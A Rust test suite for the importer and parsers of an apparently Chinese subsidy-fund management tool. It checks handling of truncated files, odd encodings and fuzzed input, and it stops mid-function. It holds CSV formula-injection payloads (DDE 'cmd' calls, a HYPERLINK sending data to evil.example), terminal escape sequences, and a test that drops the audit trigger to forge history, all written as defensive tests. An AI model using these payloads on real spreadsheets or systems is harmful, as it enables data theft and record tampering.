//! Hostile and malformed input: the CSV/xlsx importer, money, dates and credit codes on
//! inputs nobody should send — truncated files, formula payloads, terminal escapes,
//! absurdly long fields, a million columns, wrong encodings and BOMs, Excel serials,
//! full-width digits, negative zero, amounts beyond i64 fen — and on generated input
//! (proptest). The contract every time: no panic; a refusal is one clear line per error
//! (`file:line: column: reason`, no raw control character) and writes nothing (same row
//! counts, no transaction left open); what is accepted leaves a database that passes
//! integrity, foreign-key and audit-chain checks.
//!
//! `fuzz_*_small` run in CI (a few hundred cases per target). The volume run is
//! `cargo test --test hostile_input -- --ignored --nocapture` (ZHIDA_FUZZ_CASES cases per
//! target, default 20 000); every run prints how many executions it made.

// Amounts in fen are written 元_分 so that the yuan stay readable.
#![allow(clippy::inconsistent_digit_grouping)]

use std::path::Path;
use std::process::Command;
use std::sync::atomic::{AtomicU64, Ordering};

use proptest::prelude::*;
use proptest::test_runner::{Config, TestRunner};
use rusqlite::Connection;
use zhida_core::import::{self, ImportFailure, Kind, Options};
use zhida_core::model::Role;
use zhida_core::sanitize::is_unsafe_char;
use zhida_core::users::Actor;
use zhida_core::{db, CreditCode, Money};

fn cc(i: u32) -> String {
    CreditCode::complete(&format!("91530428MA{i:07}"))
        .unwrap()
        .into_string()
}

fn clerk() -> Actor {
    Actor {
        user: "李娟".into(),
        role: Role::Supervisor,
    }
}

const PROGRAMS: &str = "code,name,department,level,fiscal_year,policy_ref,is_direct,start_date,end_date,cap_per_enterprise,once_per_year,exclusive_group,eligible_sizes\n\
WG-2025,稳岗返还,人社局,县级,2025,元人社发〔2025〕8号,是,2025-01-01,2025-12-31,,否,,\n\
KJ-2025,科技创新券,科技局,省级,2025,元财教〔2025〕3号,是,2025-01-01,2025-12-31,30万,否,,小型;微型\n";

const HEADERS: [(Kind, &str); 7] = [
    (Kind::Programs, "code,name,department,level,fiscal_year,policy_ref,is_direct,start_date,end_date,cap_per_enterprise,once_per_year,exclusive_group,eligible_sizes"),
    (Kind::Enterprises, "credit_code,name,size,industry,township,contact"),
    (Kind::Allocations, "program,date,amount,doc_no,note"),
    (Kind::Disbursements, "voucher_no,program,credit_code,amount,date,status,entered_by,approved_by,reverses,note"),
    (Kind::Recoveries, "program,date,amount,reason,doc_no,credit_code,reallocated_to"),
    (Kind::Evaluations, "program,year,score,evaluator,date,note"),
    (Kind::Indicators, "program,year,name,unit,target,actual,direction"),
];

fn enterprises() -> String {
    format!(
        "credit_code,name,size,industry,township,contact\n\
         {},元江县澧江街道红河谷食品有限公司,small,食品加工,澧江街道,李明\n\
         {},元江县甘庄街道芒果种植专业合作社,micro,农业,甘庄街道,王芳\n",
        cc(1),
        cc(2)
    )
}

/// Two programs, two enterprises and a budget.
fn base() -> Connection {
    let mut conn = db::open_in_memory().unwrap();
    import::import_bytes(
        &mut conn,
        &clerk(),
        "programs.csv",
        PROGRAMS.as_bytes(),
        None,
        &Options::default(),
    )
    .unwrap();
    import::import_bytes(
        &mut conn,
        &clerk(),
        "enterprises.csv",
        enterprises().as_bytes(),
        None,
        &Options::default(),
    )
    .unwrap();
    import::import_bytes(
        &mut conn,
        &clerk(),
        "allocations.csv",
        "program,date,amount,doc_no,note\nWG-2025,2025-02-10,\"1,000,000.00\",元财社〔2025〕12号,\n".as_bytes(),
        None,
        &Options::default(),
    )
    .unwrap();
    conn
}

/// Row counts of every table an import may write.
fn snapshot(conn: &Connection) -> Vec<i64> {
    [
        "program",
        "enterprise",
        "allocation",
        "disbursement",
        "recovery",
        "evaluation",
        "indicator",
        "audit_log",
        "import_batch",
    ]
    .iter()
    .map(|t| {
        conn.query_row(&format!("SELECT count(*) FROM {t}"), [], |r| r.get(0))
            .unwrap()
    })
    .collect()
}

/// What a refusal must look like.
fn assert_clear(f: &ImportFailure, name: &str) {
    assert!(f.total >= 1 && !f.errors.is_empty(), "{f:?}");
    assert!(
        f.errors.len() <= import::MAX_ERRORS,
        "{} errors listed",
        f.errors.len()
    );
    for e in &f.errors {
        assert!(
            e.starts_with(name),
            "error does not name the file {name}: {e:?}"
        );
        assert!(e.len() > name.len() + 2, "empty reason: {e:?}");
        assert!(
            !e.chars().any(is_unsafe_char),
            "raw control character in an error line: {e:?}"
        );
        assert!(
            e.chars().count() <= 1000,
            "error line of {} chars",
            e.chars().count()
        );
    }
}

/// Import `bytes` as `name` into `conn`: Ok, or a clear refusal that wrote nothing.
/// Returns whether the file was accepted.
fn import_checked(conn: &mut Connection, name: &str, bytes: &[u8], opts: &Options) -> bool {
    let before = snapshot(conn);
    let result = import::import_bytes(conn, &clerk(), name, bytes, None, opts);
    assert!(conn.is_autocommit(), "{name}: a transaction was left open");
    match result {
        Ok(s) => {
            if opts.dry_run {
                assert_eq!(snapshot(conn), before, "{name}: dry run wrote rows");
            }
            assert!(s.written <= s.read, "{s:?}");
            db::verify(conn).unwrap();
            zhida_core::audit::verify(conn).unwrap();
            true
        }
        Err(f) => {
            assert_clear(&f, name);
            assert_eq!(
                snapshot(conn),
                before,
                "{name}: a refused file wrote rows: {f}"
            );
            false
        }
    }
}

fn refused(conn: &mut Connection, name: &str, bytes: &[u8]) -> String {
    let before = snapshot(conn);
    let f = import::import_bytes(conn, &clerk(), name, bytes, None, &Options::default())
        .expect_err("should be refused");
    assert_clear(&f, name);
    assert_eq!(snapshot(conn), before);
    assert!(conn.is_autocommit());
    f.to_string()
}

fn disbursement(voucher: &str, amount: &str, date: &str) -> String {
    format!(
        "voucher_no,program,credit_code,amount,date,status,entered_by,approved_by,reverses,note\n\
         {voucher},WG-2025,{},{amount},{date},paid,小李,王科长,,稳岗返还\n",
        cc(1)
    )
}

fn amount_of(conn: &Connection, voucher: &str) -> i64 {
    conn.query_row(
        "SELECT amount_fen FROM disbursement WHERE voucher_no = ?1",
        [voucher],
        |r| r.get(0),
    )
    .unwrap()
}

#[test]
fn every_truncation_of_a_valid_file_is_accepted_whole_or_refused_cleanly() {
    let mut text = String::from(
        "voucher_no,program,credit_code,amount,date,status,entered_by,approved_by,reverses,note\n",
    );
    for i in 0..6 {
        text += &format!(
            "YJ-{i:03},WG-2025,{},\"1,2{i}0.50\",2025年3月{}日,paid,小李,王科长,,\"澧江街道，因远镇\"\"补贴\"\"\"\n",
            cc(1 + i % 2),
            i + 1
        );
    }
    let bytes = text.as_bytes();
    let (mut accepted, mut refusals) = (0, 0);
    for cut in 0..=bytes.len() {
        let mut conn = base();
        if import_checked(
            &mut conn,
            "disbursements.csv",
            &bytes[..cut],
            &Options::default(),
        ) {
            accepted += 1;
            // what was accepted is the rows before the cut, with the right amounts and dates
            let mut stmt = conn
                .prepare("SELECT voucher_no, amount_fen, date, note FROM disbursement ORDER BY voucher_no")
                .unwrap();
            let rows: Vec<(String, i64, String, String)> = stmt
                .query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?, r.get(3)?)))
                .unwrap()
                .map(Result::unwrap)
                .collect();
            for (i, (voucher, fen, date, note)) in rows.iter().enumerate() {
                let at = format!("cut at {cut}: {voucher}");
                assert_eq!(voucher, &format!("YJ-{i:03}"), "{at}");
                assert_eq!(*fen, 1_200_50 + 10_00 * i as i64, "{at}");
                assert_eq!(date, &format!("2025-03-{:02}", i + 1), "{at}");
                // a file cut inside the last row's note (the last column) still holds a
                // valid row: its note may be cut short, nothing else may differ
                let full = "澧江街道，因远镇\"补贴\"";
                if i + 1 == rows.len() {
                    assert!(full.starts_with(note.as_str()), "{at}: {note}");
                } else {
                    assert_eq!(note, full, "{at}");
                }
            }
        } else {
            refusals += 1;
        }
    }
    eprintln!(
        "truncations: {} cuts, {accepted} accepted, {refusals} refused",
        bytes.len() + 1
    );
    assert!(accepted >= 7 && refusals > 0);
}

#[test]
fn truncated_and_corrupt_xlsx_files_are_refused_cleanly() {
    let mut wb = rust_xlsxwriter::Workbook::new();
    let ws = wb.add_worksheet();
    for (c, h) in [
        "credit_code",
        "name",
        "size",
        "industry",
        "township",
        "contact",
    ]
    .iter()
    .enumerate()
    {
        ws.write_string(0, c as u16, *h).unwrap();
    }
    let row = [
        cc(9),
        "元江县因远镇红糖厂".into(),
        "micro".into(),
        "食品".into(),
        "因远镇".into(),
        "李".into(),
    ];
    for (c, v) in row.iter().enumerate() {
        ws.write_string(1, c as u16, v).unwrap();
    }
    let bytes = wb.save_to_buffer().unwrap();
    let mut conn = base();
    assert!(import_checked(
        &mut conn,
        "enterprises.xlsx",
        &bytes,
        &Options {
            dry_run: true,
            ..Options::default()
        }
    ));
    let mut n = 0;
    for cut in (0..bytes.len()).step_by(97) {
        assert!(!import_checked(
            &mut conn,
            "enterprises.xlsx",
            &bytes[..cut],
            &Options::default()
        ));
        n += 1;
    }
    // flipped bytes inside the zip
    for at in (30..bytes.len()).step_by(211) {
        let mut b = bytes.clone();
        b[at] ^= 0x5A;
        import_checked(&mut conn, "enterprises.xlsx", &b, &Options::default());
        n += 1;
    }
    eprintln!("xlsx: {n} truncated or corrupted files");
}

#[test]
fn excel_serials_in_xlsx_dates_and_nonsense_numbers_there() {
    let mut wb = rust_xlsxwriter::Workbook::new();
    let ws = wb.add_worksheet();
    for (c, h) in ["program", "date", "amount", "doc_no", "note"]
        .iter()
        .enumerate()
    {
        ws.write_string(0, c as u16, *h).unwrap();
    }
    ws.write_string(1, 0, "WG-2025").unwrap();
    ws.write_number(1, 1, 45853.0).unwrap(); // 2025-07-15
    ws.write_number(1, 2, 1234.5).unwrap();
    ws.write_string(1, 3, "元财社〔2025〕20号").unwrap();
    let bytes = wb.save_to_buffer().unwrap();
    let mut conn = base();
    assert!(import_checked(
        &mut conn,
        "allocations.xlsx",
        &bytes,
        &Options::default()
    ));
    let (date, fen): (String, i64) = conn
        .query_row(
            "SELECT date, amount_fen FROM allocation WHERE doc_no = '元财社〔2025〕20号'",
            [],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .unwrap();
    assert_eq!((date.as_str(), fen), ("2025-07-15", 1_234_50));

    for (serial, amount) in [
        (-1.0, 1.0),
        (0.0, 1.0),
        (3_000_000.0, 1.0),
        (1e300, 1.0),
        (f64::MAX, 1.0),
        (45853.0, 1e300),
        (45853.0, 92_233_720_368_547_758.0),
        (45853.0, 0.001),
    ] {
        let mut wb = rust_xlsxwriter::Workbook::new();
        let ws = wb.add_worksheet();
        for (c, h) in ["program", "date", "amount", "doc_no", "note"]
            .iter()
            .enumerate()
        {
            ws.write_string(0, c as u16, *h).unwrap();
        }
        ws.write_string(1, 0, "WG-2025").unwrap();
        ws.write_number(1, 1, serial).unwrap();
        ws.write_number(1, 2, amount).unwrap();
        let bytes = wb.save_to_buffer().unwrap();
        let msg = refused(&mut conn, "allocations.xlsx", &bytes);
        assert!(
            msg.starts_with("allocations.xlsx:2: "),
            "{serial} {amount}: {msg}"
        );
    }
    // in a CSV a bare serial is not a date
    let msg = refused(
        &mut conn,
        "allocations.csv",
        b"program,date,amount,doc_no,note\nWG-2025,45853,100,x,\n",
    );
    assert!(msg.starts_with("allocations.csv:2: date: "), "{msg}");
}

#[test]
fn formula_payloads_import_as_text_and_leave_exports_neutralised() {
    let mut conn = base();
    let payloads = [
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"元江县\")",
    ];
    let mut text = String::from("credit_code,name,size,industry,township,contact\n");
    for (i, p) in payloads.iter().enumerate() {
        let q = format!("\"{}\"", p.replace('"', "\"\""));
        text += &format!("{},{q},small,{q},甘庄街道,{q}\n", cc(100 + i as u32));
    }
    if let Err(f) = import::import_bytes(
        &mut conn,
        &clerk(),
        "enterprises.csv",
        text.as_bytes(),
        None,
        &Options::default(),
    ) {
        panic!("{f}");
    }
    // stored exactly as given (it is evidence) ...
    let stored: String = conn
        .query_row(
            "SELECT name FROM enterprise WHERE credit_code = ?1",
            [cc(100)],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(stored, payloads[0]);
    // ... and never a formula in an exported file
    let dir = tempfile::tempdir().unwrap();
    zhida_core::export::export_csv(&conn, dir.path(), "530428").unwrap();
    let mut reader = csv::Reader::from_path(dir.path().join("enterprises.csv")).unwrap();
    let mut seen = 0;
    for rec in reader.records() {
        let rec = rec.unwrap();
        for cell in rec.iter() {
            assert!(
                !matches!(cell.chars().next(), Some('=' | '+' | '@')),
                "{cell}"
            );
            if cell.starts_with('-') {
                assert!(cell.parse::<f64>().is_ok(), "{cell}");
            }
        }
        if rec.iter().any(|c| c.starts_with("'=cmd")) {
            seen += 1;
        }
    }
    assert_eq!(seen, 1);
}

fn zhida(db: &Path, args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_zhida"))
        .arg("--db")
        .arg(db)
        .args(args)
        .env_remove("ZHIDA_DB")
        .env("ZHIDA_USER", "王科长")
        .output()
        .unwrap()
}

#[test]
fn escape_sequences_in_names_and_bad_values_never_reach_the_terminal_raw() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("财政局.db");
    {
        let mut conn = db::open(&path).unwrap();
        let ok = |c: &mut Connection, n: &str, t: &str| {
            import::import_bytes(c, &clerk(), n, t.as_bytes(), None, &Options::default()).unwrap()
        };
        ok(&mut conn, "programs.csv", PROGRAMS);
        ok(
            &mut conn,
            "enterprises.csv",
            &format!(
                "credit_code,name,size,industry,township,contact\n{},\"元江县因远镇\u{1b}[2J\u{1b}]52;c;ZXZpbA==\u{7}红糖厂\u{202E}\",micro,食品,因远镇,李\n",
                cc(7)
            ),
        );
        ok(
            &mut conn,
            "disbursements.csv",
            &disbursement("YJ-ESC-1", "100", "2025-03-01").replace(&cc(1), &cc(7)),
        );
        // a bad value carrying escapes: the error quotes it, escaped
        let msg = refused(
            &mut conn,
            "disbursements.csv",
            disbursement("YJ-ESC-2", "1\u{1b}[31m00", "2025-03-01\u{9b}2J").as_bytes(),
        );
        assert!(msg.contains("\\u{1b}[31m"), "{msg}");
    }
    for q in ["红糖厂", "YJ-ESC-1"] {
        let o = zhida(&path, &["status", q]);
        assert!(o.status.success(), "{o:?}");
        let out = String::from_utf8(o.stdout).unwrap();
        assert!(out.contains("元江县因远镇\\u{1b}[2J"), "{out}");
        assert!(
            !out.chars().any(|c| c != '\n' && is_unsafe_char(c)),
            "{out:?}"
        );
    }
    // the CLI's import errors as well
    let bad = dir.path().join("disbursements.csv");
    std::fs::write(&bad, disbursement("YJ-ESC-3", "\u{1b}[2J", "2025-03-01")).unwrap();
    let o = zhida(&path, &["import", bad.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2));
    let err = String::from_utf8(o.stderr).unwrap();
    assert!(err.contains("\\u{1b}[2J"), "{err}");
    assert!(
        !err.chars().any(|c| c != '\n' && is_unsafe_char(c)),
        "{err:?}"
    );
}

#[test]
fn absurd_sizes_long_fields_and_a_million_columns() {
    let mut conn = base();
    // a 4 MB name is stored or refused, never a crash; a 100 000-digit amount is refused
    let long_name = "元".repeat(1_400_000);
    let text = format!(
        "credit_code,name,size,industry,township,contact\n{},{long_name},small,食品,因远镇,\n",
        cc(20)
    );
    import_checked(
        &mut conn,
        "enterprises.csv",
        text.as_bytes(),
        &Options::default(),
    );
    let msg = refused(
        &mut conn,
        "disbursements.csv",
        disbursement("YJ-L1", &"9".repeat(100_000), "2025-03-01").as_bytes(),
    );
    assert!(
        msg.starts_with("disbursements.csv:2: amount: "),
        "{}",
        &msg[..200.min(msg.len())]
    );

    // 10⁶ columns in the header: refused with at most MAX_ERRORS lines
    let mut header = String::from("voucher_no,program,credit_code,amount,date");
    for i in 0..1_000_000 {
        header += &format!(",x{i}");
    }
    header.push('\n');
    let msg = refused(&mut conn, "disbursements.csv", header.as_bytes());
    assert!(
        msg.lines().count() <= import::MAX_ERRORS + 1,
        "{} lines",
        msg.lines().count()
    );
    // 10⁶ columns in a data row under a good header
    let mut row = disbursement("YJ-L2", "100", "2025-03-01");
    row.pop();
    row += &",".repeat(1_000_000);
    row.push('\n');
    let msg = refused(&mut conn, "disbursements.csv", row.as_bytes());
    assert!(
        msg.starts_with("disbursements.csv:2"),
        "{}",
        &msg[..200.min(msg.len())]
    );
    // a million empty lines, then nothing
    let mut blank = String::from(HEADERS[3].1);
    blank += &"\n".repeat(1_000_000);
    import_checked(
        &mut conn,
        "disbursements.csv",
        blank.as_bytes(),
        &Options::default(),
    );
}

#[test]
fn encodings_and_bom_variants() {
    let text = disbursement("YJ-ENC-1", "１２，３４５．６７", "2025年3月1日");
    let want = 12_345_67;
    // UTF-8 with BOM, UTF-16 LE and BE with BOM, GB18030: the same row
    let mut utf8_bom = vec![0xEF, 0xBB, 0xBF];
    utf8_bom.extend_from_slice(text.as_bytes());
    let mut le = vec![0xFF, 0xFE];
    let mut be = vec![0xFE, 0xFF];
    for u in text.encode_utf16() {
        le.extend_from_slice(&u.to_le_bytes());
        be.extend_from_slice(&u.to_be_bytes());
    }
    let (gb, _, _) = encoding_rs::GB18030.encode(&text);
    let mut double_bom = utf8_bom.clone();
    double_bom.splice(0..0, [0xEF, 0xBB, 0xBF]);
    for (what, bytes) in [
        ("utf-8", text.as_bytes().to_vec()),
        ("utf-8 bom", utf8_bom.clone()),
        ("utf-16le bom", le.clone()),
        ("utf-16be bom", be.clone()),
        ("gb18030", gb.into_owned()),
        // Excel saving twice over: the second BOM is dropped from the header like the first
        ("double utf-8 bom", double_bom.clone()),
    ] {
        let mut conn = base();
        assert!(
            import_checked(&mut conn, "disbursements.csv", &bytes, &Options::default()),
            "{what}"
        );
        assert_eq!(amount_of(&conn, "YJ-ENC-1"), want, "{what}");
    }
    let mut conn = base();
    // UTF-16 without a BOM (NUL bytes), UTF-32 with its BOM, a doubled BOM, invalid
    // UTF-8 after valid UTF-8, a lone UTF-16 surrogate
    let mut utf16_no_bom = Vec::new();
    for u in text.encode_utf16() {
        utf16_no_bom.extend_from_slice(&u.to_le_bytes());
    }
    let mut utf32 = vec![0xFF, 0xFE, 0x00, 0x00];
    for c in text.chars() {
        utf32.extend_from_slice(&(c as u32).to_le_bytes());
    }
    let mut bad_tail = text.clone().into_bytes();
    bad_tail.extend_from_slice(b"YJ-ENC-2,WG-2025,\xE5\x85,1,2025-03-01,paid,a,b,,\n");
    let mut lone = vec![0xFF, 0xFE];
    for u in text.encode_utf16().take(40) {
        lone.extend_from_slice(&u.to_le_bytes());
    }
    lone.extend_from_slice(&[0x00, 0xD8, 0x41, 0x00]);
    for (what, bytes) in [
        ("utf-16 without bom", utf16_no_bom),
        ("utf-32 bom", utf32),
        ("bad utf-8 tail", bad_tail),
        ("lone surrogate", lone),
        ("binary", (0u8..=255).cycle().take(5000).collect()),
    ] {
        assert!(
            !import_checked(&mut conn, "disbursements.csv", &bytes, &Options::default()),
            "{what}"
        );
    }
}

#[test]
fn amounts_at_the_edges_full_width_negative_zero_and_overflow() {
    let mut conn = base();
    let cases: [(&str, Option<i64>); 12] = [
        ("１２３", Some(123_00)),
        ("￥１，２３４．５０", Some(1_234_50)),
        ("1.5万", Some(15_000_00)),
        ("92233720368547758.07", Some(i64::MAX)),
        ("-0", None),
        ("-0.00", None),
        ("０", None),
        ("92233720368547758.08", None),
        ("-92233720368547758.09", None),
        ("9999999999亿", None),
        ("1e5", None),
        ("1.234", None),
    ];
    for (i, (amount, want)) in cases.iter().enumerate() {
        let v = format!("YJ-AMT-{i}");
        let text = disbursement(&v, amount, "2025-03-02");
        match want {
            Some(fen) => {
                assert!(
                    import_checked(
                        &mut conn,
                        "disbursements.csv",
                        text.as_bytes(),
                        &Options::default()
                    ),
                    "{amount}"
                );
                assert_eq!(amount_of(&conn, &v), *fen, "{amount}");
            }
            None => {
                let msg = refused(&mut conn, "disbursements.csv", text.as_bytes());
                assert!(
                    msg.starts_with("disbursements.csv:2: amount: "),
                    "{amount}: {msg}"
                );
            }
        }
    }
    // negative zero is zero, never a negative amount
    assert_eq!(Money::parse("-0").unwrap(), Money(0));
    assert_eq!(Money::parse("-0.00").unwrap().0, 0);
    assert_eq!(Money::parse("-0").unwrap().format_yuan(), "0.00");
    // an allocation of -0 is a zero allocation: refused
    let msg = refused(
        &mut conn,
        "allocations.csv",
        b"program,date,amount,doc_no,note\nWG-2025,2025-03-01,-0,x,\n",
    );
    assert!(msg.starts_with("allocations.csv:2: amount: "), "{msg}");
}

// ---- generated input ------------------------------------------------------------------

/// Field values: well-formed ones, near misses and hostile ones.
fn field() -> impl Strategy<Value = String> {
    let fixed = prop::sample::select(vec![
        "WG-2025".to_string(),
        "KJ-2025".to_string(),
        cc(1),
        cc(2),
        cc(1).to_lowercase(),
        cc(1)[..17].to_string(),
        "2025-03-01".into(),
        "2025/13/01".into(),
        "2025年2月29日".into(),
        "２０２５－０３－０１".into(),
        "20250301".into(),
        "45853".into(),
        "1,200.00".into(),
        "１２３".into(),
        "-0".into(),
        "-1200".into(),
        "92233720368547758.08".into(),
        "3亿".into(),
        "1.5万".into(),
        "paid".into(),
        "pending".into(),
        "已复核".into(),
        "是".into(),
        "small".into(),
        "小型;微型".into(),
        "idle".into(),
        "clawback".into(),
        "ge".into(),
        "≤".into(),
        "85.5".into(),
        "=cmd|' /C calc'!A0".into(),
        "\u{1b}[2J".into(),
        "\u{202E}".into(),
        "\u{feff}".into(),
        "\"".into(),
        "\r\n".into(),
        "".into(),
        "元江县澧江街道红河谷食品有限公司".into(),
    ]);
    prop_oneof![
        6 => fixed,
        2 => any::<String>(),
        1 => "[0-9０-９,.，．万亿￥¥+\\-−]{0,30}",
        1 => (1usize..3000).prop_map(|n| "甘".repeat(n)),
    ]
}

/// A CSV of a kind: its header (sometimes shuffled or damaged) and rows of fields,
/// sometimes quoted, with random line ends.
fn csv_of_kind() -> impl Strategy<Value = (Kind, Vec<u8>)> {
    (
        0usize..7,
        prop::collection::vec(prop::collection::vec((field(), any::<bool>()), 0..14), 0..6),
        any::<u8>(),
    )
        .prop_map(|(k, rows, flags)| {
            let (kind, header) = HEADERS[k];
            let mut cols: Vec<&str> = header.split(',').collect();
            if flags & 1 == 1 {
                cols.reverse();
            }
            if flags & 2 == 2 {
                cols.push("备注2");
            }
            let eol = if flags & 4 == 4 { "\r\n" } else { "\n" };
            let mut text = cols.join(",") + eol;
            for row in rows {
                let cells: Vec<String> = row
                    .into_iter()
                    .map(|(f, quote)| {
                        if quote || f.contains([',', '"', '\n', '\r']) {
                            format!("\"{}\"", f.replace('"', "\"\""))
                        } else {
                            f
                        }
                    })
                    .collect();
                text += &cells.join(",");
                text += eol;
            }
            let mut bytes = text.into_bytes();
            if flags & 8 == 8 {
                bytes.splice(0..0, [0xEF, 0xBB, 0xBF]);
            }
            if flags & 16 == 16 && !bytes.is_empty() {
                // cut anywhere, even inside a character
                let cut = (flags as usize * 7919) % bytes.len();
                bytes.truncate(cut);
            }
            (kind, bytes)
        })
}

fn cases() -> u32 {
    std::env::var("ZHIDA_FUZZ_CASES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(20_000)
}

/// Run `body` on `cases` generated inputs; returns the number of executions.
fn fuzz<S: Strategy>(what: &str, cases: u32, strategy: S, body: impl Fn(S::Value)) -> u64
where
    S::Value: std::fmt::Debug,
{
    let runs = AtomicU64::new(0);
    let mut runner = TestRunner::new(Config {
        cases,
        failure_persistence: None,
        ..Config::default()
    });
    runner
        .run(&strategy, |v| {
            runs.fetch_add(1, Ordering::Relaxed);
            body(v);
            Ok(())
        })
        .unwrap_or_else(|e| panic!("{what}: {e}"));
    let n = runs.load(Ordering::Relaxed);
    eprintln!("fuzz {what}: {n} executions");
    n
}

/// Every fuzz target; returns (executions, inputs accepted by the importer).
fn fuzz_all(cases: u32) -> (u64, u64) {
    let accepted = AtomicU64::new(0);
    let conn = std::cell::RefCell::new(base());
    let mut n = 0;
    n += fuzz(
        "import: generated CSV of each kind",
        cases,
        csv_of_kind(),
        |(kind, bytes)| {
            let name = format!("{}.csv", kind.as_str());
            let dry = bytes.len() % 2 == 0;
            let opts = Options {
                dry_run: dry,
                ..Options::default()
            };
            if import_checked(&mut conn.borrow_mut(), &name, &bytes, &opts) {
                accepted.fetch_add(1, Ordering::Relaxed);
            }
        },
    );
    n += fuzz(
        "import: arbitrary bytes",
        cases,
        (
            0usize..7,
            prop::collection::vec(any::<u8>(), 0..600),
            any::<bool>(),
        ),
        |(k, bytes, xlsx)| {
            let kind = HEADERS[k].0;
            let name = format!("{}.{}", kind.as_str(), if xlsx { "xlsx" } else { "csv" });
            if import_checked(&mut conn.borrow_mut(), &name, &bytes, &Options::default()) {
                accepted.fetch_add(1, Ordering::Relaxed);
            }
        },
    );
    n += fuzz(
        "money",
        cases,
        prop_oneof![
            any::<String>(),
            "[-+￥¥]?[0-9０-９,，]{0,24}([.．][0-9]{0,4})?[万亿元]?"
        ],
        |s| {
            if let Ok(m) = Money::parse(&s) {
                // what parses formats back to itself
                assert_eq!(Money::parse(&m.format_yuan()).unwrap(), m, "{s:?}");
                assert_eq!(Money::parse(&m.plain()).unwrap(), m, "{s:?}");
            } else {
                let e = Money::parse(&s).unwrap_err().to_string();
                assert!(!e.is_empty());
            }
        },
    );
    n += fuzz(
        "dates",
        cases,
        prop_oneof![
            any::<String>(),
            "[0-9０-９]{0,5}[-/年－／]?[0-9]{0,3}[-/月]?[0-9]{0,3}日?"
        ],
        |s| {
            if let Ok(d) = zhida_core::dates::parse_date(&s) {
                assert_eq!(
                    zhida_core::dates::parse_date(&zhida_core::dates::iso(d)).unwrap(),
                    d
                );
            }
            let _ = zhida_core::dates::Month::parse(&s);
        },
    );
    n += fuzz("excel serials", cases, any::<f64>(), |f| {
        if let Some(d) = zhida_core::dates::from_excel_serial(f) {
            assert!(
                (1900..=9999).contains(&chrono::Datelike::year(&d)),
                "{f} → {d}"
            );
        }
    });
    n += fuzz(
        "credit codes",
        cases,
        prop_oneof![any::<String>(), "[0-9A-Za-z]{16,19}"],
        |s| match CreditCode::parse(&s) {
            Ok(c) => {
                assert_eq!(c.as_str().len(), 18);
                assert_eq!(CreditCode::parse(c.as_str()).unwrap(), c);
                assert_eq!(CreditCode::complete(&c.as_str()[..17]).unwrap(), c);
            }
            Err(e) => assert!(!e.to_string().is_empty()),
        },
    );
    let conn = conn.into_inner();
    db::verify(&conn).unwrap();
    zhida_core::audit::verify(&conn).unwrap();
    (n, accepted.into_inner())
}

#[test]
fn fuzz_small() {
    let (n, accepted) = fuzz_all(200);
    eprintln!("fuzz (CI): {n} executions, {accepted} imports accepted, nothing else written");
    assert_eq!(n, 6 * 200);
}

#[test]
#[ignore = "volume run: cargo test --test hostile_input -- --ignored --nocapture"]
fn fuzz_volume() {
    let c = cases();
    let (n, accepted) = fuzz_all(c);
    eprintln!("fuzz (volume): {n} executions, {accepted} imports accepted, nothing else written");
    assert_eq!(n, 6 * c as u64);
}

// ---- hostile users and files ----------------------------------------------------------

#[cfg(unix)]
#[test]
fn database_wal_and_shm_files_are_private() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("财政局.db");
    let csv = dir.path().join("programs.csv");
    std::fs::write(&csv, PROGRAMS).unwrap();
    let o = zhida(&path, &["user", "add", "王科长", "--role", "supervisor"]);
    assert!(o.status.success(), "{o:?}");
    // keep a connection open so that the WAL and shared-memory files exist
    let conn = db::open(&path).unwrap();
    conn.execute_batch("PRAGMA wal_autocheckpoint = 0").unwrap();
    let mut conn2 = db::open(&path).unwrap();
    let boss = Actor::load(&conn2, "王科长").unwrap();
    zhida_core::users::set_user(&mut conn2, &boss, "小李", Role::Clerk).unwrap();
    for suffix in ["", "-wal", "-shm"] {
        let f = format!("{}{suffix}", path.display());
        let mode = std::fs::metadata(&f).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o600, "{f}: {:o}", mode & 0o777);
    }
    let bak = dir.path().join("备份.db");
    let o = zhida(&path, &["backup", "--to", bak.to_str().unwrap()]);
    assert!(o.status.success(), "{o:?}");
    let mode = std::fs::metadata(&bak).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600);
    drop(conn);
}

#[test]
fn the_audit_log_refuses_sql_edits_and_verify_finds_a_tampered_row() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("财政局.db");
    for (name, role) in [
        ("王科长", "supervisor"),
        ("小李", "clerk"),
        ("审计刘", "auditor"),
    ] {
        let o = zhida(&path, &["user", "add", name, "--role", role]);
        assert!(o.status.success(), "{o:?}");
    }
    let o = zhida(&path, &["audit", "verify"]);
    assert!(o.status.success(), "{o:?}");
    assert!(String::from_utf8_lossy(&o.stdout).contains("3"), "{o:?}");
    {
        let conn = Connection::open(&path).unwrap();
        for sql in [
            "UPDATE audit_log SET user = '黑客' WHERE id = 2",
            "DELETE FROM audit_log WHERE id = 3",
        ] {
            let e = conn.execute(sql, []).unwrap_err().to_string();
            assert!(e.contains("append-only"), "{sql}: {e}");
        }
        // someone with the file drops the trigger and rewrites history
        conn.execute_batch(
            "DROP TRIGGER audit_log_no_update;
             UPDATE audit_log SET after_json = '\"supervisor\"' WHERE key = '小李';",
        )
        .unwrap();
    }
    let o = zhida(&path, &["audit", "verify"]);
    assert_eq!(o.status.code(), Some(2), "{o:?}");
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("第 2 条被篡改"), "{err}");
    assert_eq!(err.lines().count(), 1, "{err}");
}

#[test]
fn roles_hold_below_the_interface() {
    let mut conn = base();
    let boss = clerk();
    zhida_core::users::set_user(&mut conn, &boss, "李娟", Role::Supervisor).unwrap();
    zhida_core::users::set_user(&mut conn, &boss, "审计刘", Role::Auditor).unwrap();
    let auditor = Actor::load(&conn, "审计刘").unwrap();
    let clerk_ = Actor::load(&conn, "小张").unwrap();
